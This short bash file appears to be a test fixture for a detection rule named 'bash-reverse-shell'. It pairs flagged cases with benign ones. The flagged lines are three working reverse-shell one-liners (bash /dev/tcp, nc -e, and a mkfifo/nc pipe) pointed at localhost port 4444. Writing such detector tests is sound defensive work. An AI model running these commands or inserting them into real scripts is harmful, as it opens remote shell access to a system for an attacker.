#!/bin/bash

# ruleid: bash-reverse-shell
bash -i >& /dev/tcp/127.0.0.1/4444 0>&1

# ruleid: bash-reverse-shell
nc -e /bin/sh 127.0.0.1 4444

# ruleid: bash-reverse-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f

# ok: bash-reverse-shell
nc -z 127.0.0.1 8080

# ok: bash-reverse-shell
bash ./scripts/build.sh > /tmp/build.log 2>&1
